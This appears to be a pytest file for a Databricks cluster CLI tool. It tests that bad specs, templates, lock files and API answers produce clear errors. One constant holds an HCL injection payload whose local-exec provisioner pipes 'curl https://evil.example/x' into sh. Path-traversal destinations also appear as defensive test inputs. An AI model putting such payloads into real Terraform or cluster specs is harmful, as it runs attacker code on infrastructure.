"""Security and reliability, round two (issue 23): rows 1, 10, 11 and 16.

Pure and table-driven: each row feeds one bad spec, template, lock or answer to the real
product (the model, the `dcs` CLI in-process, the Workspace client against the canned
Clusters API of tests/support/clusters_api.py) and asserts the clear dcs-magic error, or,
for what must keep working, that the file written reads back through a real parser
(python-hcl2, PyYAML's libyaml loader, json) with exactly the values the spec had.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import hcl2
import nbformat
import pytest
import yaml
from nbformat.v4 import new_code_cell, new_notebook
from support.clusters_api import ClustersApi, isolate_databricks_config

from dcs_magic.adapters.workspace import Workspace
from dcs_magic.cli.commands import main as dcs_main
from dcs_magic.errors import ApiError, LockError, SpecError, UsageError
from dcs_magic.model.cells import split_line
from dcs_magic.model.exports import to_bundle, to_policy, to_pool, to_terraform
from dcs_magic.model.spec import ClusterSpec
from dcs_magic.ops.lock import read_lock

PINNED = "registry.example.com/team/app@sha256:" + "a" * 64
BASE: dict[str, Any] = {"cluster_name": "etl", "spark_version": "15.4.x-scala2.12", "node_type_id": "i3.xlarge",
                        "num_workers": 1, "docker_image": {"url": PINNED}}
PAYLOAD = ('zone_id = "x"\n }\n provisioner "local-exec" { command = "curl https://evil.example/x|sh" }\n'
           ' aws_attributes {\n availability')
WRITERS = {"terraform": to_terraform, "bundle": to_bundle, "policy": to_policy, "pool": to_pool}


def _spec_file(tmp_path: Path, body: Any, *, raw: bytes | None = None) -> str:
    path = tmp_path / "cluster.json"
    path.write_bytes(raw if raw is not None else json.dumps(body).encode())
    return str(path)


def _dcs(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = dcs_main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


# -- row 1: no spec key becomes code ----------------------------------------------------------

INJECTIONS = [
    pytest.param({**BASE, "aws_attributes": {PAYLOAD: "y"}}, 'aws_attributes."zone_id = ', id="nested"),
    pytest.param({**BASE, PAYLOAD: "y"}, '"zone_id = ', id="top-level"),
    pytest.param({**BASE, "aws_attributes": {"x": {PAYLOAD: 1}}}, 'aws_attributes.x."zone_id', id="under-unknown"),
    pytest.param({**BASE, "init_scripts": [{"workspace": {"destination": "/Workspace/a.sh", PAYLOAD: 1}}]},
                 'init_scripts[0].workspace."zone_id', id="list-item"),
]


@pytest.mark.parametrize(("body", "path"), INJECTIONS)
@pytest.mark.parametrize("kind", list(WRITERS))
def test_a_key_that_is_not_a_field_name_is_refused_by_every_export(body: dict[str, Any], path: str,
                                                                      kind: str) -> None:
    spec = ClusterSpec.from_dict(body)  # read (with a warning), refused when written
    with pytest.raises(SpecError) as caught:
        WRITERS[kind](spec)
    assert str(caught.value).startswith(path) and "is not a field name" in str(caught.value)
    assert "provisioner" in str(caught.value) and "\n" not in str(caught.value).split(" is not")[0]
    assert "spark_conf" in (caught.value.hint or "")


@pytest.mark.parametrize("strict", [False, True])
def test_dcs_export_terraform_refuses_the_payload_without_writing(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                                  strict: bool) -> None:
    spec = _spec_file(tmp_path, {**BASE, "aws_attributes": {"zone_id": "auto", PAYLOAD: "y"}})
    out_file = tmp_path / "main.tf"
    code, out, err = _dcs(capsys, "export", "terraform", "--spec", spec, "--out", str(out_file),
                          *(["--strict"] if strict else []))
    assert code == 1 and out == "" and not out_file.exists()
    assert "aws_attributes.\"zone_id = " in err and "Traceback" not in err


def _hcl_text(literal: Any) -> Any:
    """An HCL string literal as python-hcl2 returns it ('"..."'), decoded by HCL's escapes."""
    if not (isinstance(literal, str) and literal.startswith('"')):
        return literal
    escapes = {"n": "\n", "r": "\r", "t": "\t", '"': '"', "\\": "\\"}
    text = re.sub(r'\\(.)', lambda m: escapes[m.group(1)], literal[1:-1])
    return text.replace("$${", "${").replace("%%{", "%{")


ODD_CONF = {"a conf with spaces": "v", 'k="1"': 'say "hi"', "x = y": "a = b", "line\nbreak": "two\nlines",
            "tpl ${var.x}": "%{if x}y%{endif}", "back\\slash": "tab\there", "}\nprovisioner": "{ }", "🚀": "ü"}


def test_odd_map_keys_round_trip_through_hcl2() -> None:
    body = {**BASE, "spark_conf": ODD_CONF, "custom_tags": {"team name": "data = ops"},
            "spark_env_vars": {"PYSPARK_PYTHON": "/databricks/python3/bin/python3"},
            "aws_attributes": {"availability": "SPOT", "zone_id": "auto"}}
    parsed = hcl2.loads(to_terraform(ClusterSpec.from_dict(body, strict=True)))
    (resource,) = parsed["resource"]
    assert list(resource) == ['"databricks_cluster"']
    (cluster,) = resource['"databricks_cluster"'].values()
    for name in ("spark_conf", "custom_tags", "spark_env_vars"):
        assert {_hcl_text(k): _hcl_text(v) for k, v in cluster[name].items()} == body[name]
    assert [{k: _hcl_text(v) for k, v in block.items() if k != "__is_block__"}
            for block in cluster["aws_attributes"]] == [body["aws_attributes"]]
    blocks = sorted(k for k, v in cluster.items() if isinstance(v, list) and v and isinstance(v[0], dict))
    assert blocks == ["aws_attributes", "docker_image"]  # nothing else: no provisioner, no extra block


# -- row 10: UTF-8 YAML that libyaml reads --------------------------------------------------

@pytest.mark.parametrize("text", ["🚀 launch", "naïve – ü", "a\u2028b\u0085c", "\x7f\x9f\ufeff", "日本語", "tab\tq\"uote"])
def test_bundle_yaml_with_emoji_reads_back_through_libyaml(text: str) -> None:
    body = {**BASE, "cluster_name": text, "custom_tags": {text: text}}
    out = to_bundle(ClusterSpec.from_dict(body))
    assert "\\ud83d" not in out
    loaded = yaml.load(out, Loader=yaml.CSafeLoader)
    cluster = next(iter(loaded["resources"]["clusters"].values()))
    assert cluster["cluster_name"] == text and cluster["custom_tags"] == {text: text}
    assert loaded["resources"]["jobs"][next(iter(loaded["resources"]["jobs"]))]["name"] == f"{text} job"


def test_dcs_export_bundle_writes_utf8(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = _spec_file(tmp_path, {**BASE, "cluster_name": "🚀 etl"})
    out_file = tmp_path / "bundle.yml"
    code, _, _ = _dcs(capsys, "export", "bundle", "--spec", spec, "--out", str(out_file))
    assert code == 0 and "🚀 etl" in out_file.read_text(encoding="utf-8")
    loaded = yaml.load(out_file.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
    assert loaded["resources"]["clusters"]["etl"]["cluster_name"] == "🚀 etl"


# -- row 11: nested unknown fields -----------------------------------------------------------

NESTED_TYPOS = [
    ({"aws_attributes": {"availabilty": "SPOT"}}, "aws_attributes.availabilty", "aws_attributes.availability"),
    ({"autoscale": {"min_worker": 1, "max_workers": 2}}, "autoscale.min_worker", "autoscale.min_workers"),
    ({"gcp_attributes": {"zone_ids": "a"}}, "gcp_attributes.zone_ids", "gcp_attributes.zone_id"),
    ({"init_scripts": [{"s3": {"destination": "s3://b/i.sh", "regoin": "us-west-2"}}]},
     "init_scripts[0].s3.regoin", "init_scripts[0].s3.region"),
    ({"docker_image": {"url": PINNED, "basic_auth": {"username": "u", "pasword": "{{secrets/s/k}}"}}},
     "docker_image.basic_auth.pasword", "docker_image.basic_auth.password"),
    ({"workload_type": {"clients": {"notebook": True}}}, "workload_type.clients.notebook",
     "workload_type.clients.notebooks"),
]


@pytest.mark.parametrize(("change", "path", "closest"), NESTED_TYPOS)
def test_nested_unknown_fields_warn_or_fail_with_strict(change: dict[str, Any], path: str, closest: str) -> None:
    body = {**BASE, **change}
    warnings: list[str] = []
    ClusterSpec.from_dict(body, warn=warnings.append)
    assert warnings == [f"unknown cluster field '{path}'; did you mean '{closest}'? It is sent as it is; "
                        "the Clusters API ignores or rejects it"]
    with pytest.raises(SpecError, match=re.escape(f"'{path}'; did you mean '{closest}'")) as caught:
        ClusterSpec.from_dict(body, strict=True)
    assert caught.value.field == path


def test_known_nested_fields_and_free_maps_pass_strict() -> None:
    body = {**BASE, "aws_attributes": {"availability": "SPOT_WITH_FALLBACK", "zone_id": "auto",
                                       "first_on_demand": 1, "ebs_volume_count": 1},
            "autoscale": {"min_workers": 1, "max_workers": 3},
            "spark_conf": {"spark.anything.goes": "1"}, "custom_tags": {"any tag = ok": "x"}}
    body.pop("num_workers")
    warnings: list[str] = []
    ClusterSpec.from_dict(body, strict=True, warn=warnings.append).validate()
    assert warnings == []


def test_dcs_export_strict_refuses_a_nested_typo(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = _spec_file(tmp_path, {**BASE, "aws_attributes": {"availabilty": "SPOT"}})
    code, out, err = _dcs(capsys, "export", "terraform", "--spec", spec, "--strict")
    assert (code, out) == (1, "")
    assert "aws_attributes.availabilty" in err and "aws_attributes.availability" in err
    code, out, err = _dcs(capsys, "export", "terraform", "--spec", spec)
    assert code == 0 and "warning" in err.lower() and "aws_attributes.availability" in err


# -- row 16: spec files and values that were tracebacks ------------------------------------

BAD_SPEC_FILES = [
    pytest.param(b'{"num_workers": NaN, "spark_version": "15.4.x-scala2.12"}', "holds NaN, which is not JSON",
                 id="NaN"),
    pytest.param(b'{"autotermination_minutes": Infinity}', "holds Infinity", id="Infinity"),
    pytest.param(b'{"autotermination_minutes": -Infinity}', "holds -Infinity", id="-Infinity"),
    pytest.param('{"cluster_name": "caf\u00e9"}'.encode("latin-1"), "is not UTF-8 text", id="latin-1"),
    pytest.param(json.dumps({**BASE, "cluster_name": "x\udc80"}).encode(), "cluster_name holds a lone surrogate",
                 id="lone-surrogate-value"),
    pytest.param(json.dumps({**BASE, "spark_conf": {"k\ud83d": "v"}}).encode(), "holds a lone surrogate",
                 id="lone-surrogate-key"),
]


@pytest.mark.parametrize(("raw", "words"), BAD_SPEC_FILES)
@pytest.mark.parametrize("kind", ["terraform", "bundle"])
def test_bad_spec_files_are_a_clear_error(tmp_path: Path, capsys: pytest.CaptureFixture[str], raw: bytes,
                                          words: str, kind: str) -> None:
    code, out, err = _dcs(capsys, "export", kind, "--spec", _spec_file(tmp_path, None, raw=raw))
    assert (code, out) == (1, "")
    assert words in err and "Traceback" not in err
    assert "hint" in err.lower()  # how to fix it


BAD_DESTINATIONS = ["/Workspace/Shared/a\nb.sh", "/Workspace/Shared/../etc/x.sh", "/Volumes/c/s/v/..",
                    "dbfs:/init/../../x.sh", "/Workspace/Shared/x.sh\r", "s3://bucket/a/../b.sh"]


@pytest.mark.parametrize("destination", BAD_DESTINATIONS)
def test_init_script_destinations_with_a_newline_or_dotdot_are_refused(destination: str) -> None:
    kind = {"/W": "workspace", "/V": "volumes", "db": "dbfs", "s3": "s3"}[destination[:2]]
    info: dict[str, Any] = {"destination": destination, **({"region": "us-west-2"} if kind == "s3" else {})}
    spec = ClusterSpec.from_dict({**BASE, "init_scripts": [{kind: info}]})
    errors = spec.errors()
    assert len(errors) == 1 and "control character" in str(errors[0]) and "`..`" in str(errors[0])
    assert errors[0].field == f"init_scripts[0].{kind}.destination"
    with pytest.raises(SpecError):
        to_terraform(spec)


# -- row 16: templates, lock files and magic lines -------------------------------------------

BIG_NUMBERS = ["RUN echo {{ 10 ** 5000 }}", "{% set x = 10 %}RUN echo {{ x ** 5000 }}", "RUN echo {{ (n|int) ** 5000 }}"]


@pytest.mark.parametrize("line", BIG_NUMBERS)
def test_a_number_too_long_to_write_is_a_template_error(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                        line: str) -> None:
    notebook = tmp_path / "n.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell("n = 10"),
                                       new_code_cell(f"%%dockerfile app\nFROM busybox\n{line}\n")]), notebook)
    # --var n only where the template reads n: a --var the notebook never uses is refused (exit 2)
    code, out, err = _dcs(capsys, "render", str(notebook), *(["--var", "n=10"] if "(n|int)" in line else []))
    assert (code, out) == (1, "") and "Traceback" not in err
    assert "TemplateError" in err and "more than 4300 digits" in err and "line 2" in err
    assert "Hint: compute large numbers in a code cell" in err
    assert not (tmp_path / "dcs-build").exists()


def test_lock_files_that_cannot_be_read_are_lock_errors(tmp_path: Path) -> None:
    deep = tmp_path / "deep.dcs.lock.json"
    deep.write_text('{"version": 1, "images": {"a": ' + "[" * 100_000 + "]" * 100_000 + "}}")
    latin = tmp_path / "latin.dcs.lock.json"
    latin.write_bytes('{"version": 1, "images": {"caf\u00e9": {}}}'.encode("latin-1"))
    for path, words in ((deep, "nests too deeply"), (latin, "is not UTF-8 text (byte 0xe9")):
        with pytest.raises(LockError, match=re.escape(words)) as caught:
            read_lock(path)
        assert str(path) in str(caught.value) and "delete it" in (caught.value.hint or "")


def test_dcs_export_from_a_non_utf8_lock_exits_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    notebook = tmp_path / "n.ipynb"
    nbformat.write(new_notebook(cells=[new_code_cell("%%dockerfile app\nFROM busybox\n")]), notebook)
    (tmp_path / "n.dcs.lock.json").write_bytes(b'{"version": 1, "images": {"\xff": {}}}')
    code, out, err = _dcs(capsys, "export", "pool", "--lock", str(notebook))
    assert (code, out) == (1, "") and "LockError" in err and "not UTF-8" in err and "Traceback" not in err


NUL_LINES = ['%%dockerfile app --context "a\x00b"', "%%dockerfile app\x00x", '%%dcs_file app "f\x00.txt"',
             '%%dockerfile app --base "busybox\x00:1"']


@pytest.mark.parametrize("line", NUL_LINES)
def test_a_nul_byte_in_a_magic_line_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               line: str) -> None:
    with pytest.raises(UsageError, match="NUL byte"):
        split_line(line.split(" ", 1)[1])
    notebook = tmp_path / "n.ipynb"
    cells = [new_code_cell("%%dockerfile app\nFROM busybox\n"), new_code_cell(f"{line}\ncontent\n")]
    nbformat.write(new_notebook(cells=cells), notebook)
    code, out, err = _dcs(capsys, "render", str(notebook))
    assert (code, out) == (1, "") and "NUL byte" in err and "Traceback" not in err
    assert "\x00" not in err and "\\x00" in err  # escaped, never raw on the terminal
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n.ipynb"]  # nothing rendered


# -- row 16: answers of the wrong shape --------------------------------------------------------

RUN_ID = 7001
SHAPES = [
    ("clusters/get", [], lambda ws: ws.get_cluster("0101-000000-dcstest0"), "its answer is a list"),
    ("clusters/get", {"state": ["RUNNING"]}, lambda ws: ws.get_cluster("0101-000000-dcstest0"), "state as a list"),
    ("clusters/get", {"state": "TERMINATED", "termination_reason": "x"},
     lambda ws: ws.get_cluster("0101-000000-dcstest0"), "termination_reason as a string"),
    ("jobs/runs/submit", [], lambda ws: ws.submit_run(body=SUBMIT), "without a run_id: []"),
    ("jobs/runs/submit", {"run_id": "seven"}, lambda ws: ws.submit_run(body=SUBMIT), "run_id as a string"),
    ("jobs/runs/get", [], lambda ws: ws.get_run(RUN_ID), "its answer is a list"),
    ("jobs/runs/get", {"run_id": RUN_ID, "state": []}, lambda ws: ws.get_run(RUN_ID), "state as a list"),
    ("jobs/runs/get", {"run_id": RUN_ID, "state": {"life_cycle_state": 3}}, lambda ws: ws.get_run(RUN_ID),
     "state.life_cycle_state as a number"),
    ("jobs/runs/get", {"run_id": RUN_ID, "tasks": [1]}, lambda ws: ws.get_run(RUN_ID), "tasks as a list"),
    ("jobs/runs/get", {"run_id": RUN_ID, "tasks": [{"run_id": "x"}]}, lambda ws: ws.get_run(RUN_ID),
     "tasks[0].run_id as a string"),
    ("jobs/runs/get", [], lambda ws: ws.wait_for_run(RUN_ID, timeout_s=5), "its answer is a list"),
    ("jobs/runs/get-output", [], lambda ws: ws.get_run_output(RUN_ID), "its answer is a list"),
    ("jobs/runs/get-output", {"logs": {"a": 1}}, lambda ws: ws.get_run_output(RUN_ID), "logs as an object"),
    ("jobs/runs/get-output", {"notebook_output": {"result": 5}}, lambda ws: ws.get_run_output(RUN_ID),
     "notebook_output.result as a number"),
    ("workspace-conf", [], lambda ws: ws.workspace_conf(["enableDcs"]), "its answer is a list"),
    ("workspace-conf", {"enableDcs": True}, lambda ws: ws.workspace_conf(["enableDcs"]), "enableDcs as a boolean"),
    ("preview/scim/v2/Me", [], lambda ws: ws.current_user(), "its answer is a list"),
    ("preview/scim/v2/Me", {"userName": ["a"]}, lambda ws: ws.current_user(), "userName as a list"),
    ("clusters/spark-versions", [], lambda ws: ws.spark_versions(), "its answer is a list"),
    ("clusters/spark-versions", {"versions": "15.4"}, lambda ws: ws.spark_versions(), "versions as a string"),
    ("clusters/spark-versions", {"versions": [{"key": 15}]}, lambda ws: ws.spark_versions(),
     "versions[0].key as a number"),
    ("clusters/list-node-types", [], lambda ws: ws.node_types(), "its answer is a list"),
    ("clusters/list-node-types", {"node_types": {"a": 1}}, lambda ws: ws.node_types(), "node_types as an object"),
    ("clusters/list-node-types", {"node_types": [{"node_type_id": None, "num_cores": "4"}]},
     lambda ws: ws.node_types(), "node_types[0].num_cores as a string"),
]
SUBMIT = {"run_name": "faults", "tasks": [{"task_key": "main", "new_cluster": BASE,
                                           "spark_python_task": {"python_file": "/Workspace/Shared/main.py"}}]}


@pytest.mark.parametrize(("path", "answer", "call", "words"), SHAPES,
                         ids=[f"{p}-{json.dumps(a)[:30]}" for p, a, _, _ in SHAPES])
def test_answers_of_the_wrong_shape_are_api_errors(path: str, answer: Any, call: Any, words: str) -> None:
    with ClustersApi() as api:
        api.fail(path, 200, answer, times=5)
        with Workspace(host=api.host, token=api.token, retries=0) as ws, pytest.raises(ApiError) as caught:
            call(ws)
    message = str(caught.value)
    assert (words if words.startswith("its answer") else f"answered {words}") in message, message
    assert caught.value.hint and api.token not in message
    # A create never says only "wrong shape": the run may exist, so the hint says where to look.
    if path == "jobs/runs/submit":
        assert "may have been submitted" in caught.value.hint
    else:
        assert "where the API gives" in message and "Databricks workspace" in caught.value.hint


def test_dcs_doctor_reports_wrong_shapes_as_failed_checks(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    with ClustersApi() as api:
        isolate_databricks_config(monkeypatch, tmp_path)
        monkeypatch.setenv("DATABRICKS_HOST", api.host)
        monkeypatch.setenv("DATABRICKS_TOKEN", api.token)
        for path in ("workspace-conf", "clusters/spark-versions", "clusters/list-node-types"):
            api.fail(path, 200, [])
        code, out, err = _dcs(capsys, "doctor")
        assert code == 1 and "Traceback" not in out + err
        assert out.count("its answer is a list") == 3, out
        api.fail("preview/scim/v2/Me", 200, [])  # a wrong shape is not a refusal of the credentials
        code, out, err = _dcs(capsys, "doctor")
    assert code == 1 and "Traceback" not in out + err
    assert "cannot tell whose they are" in out and "refused" not in out, out
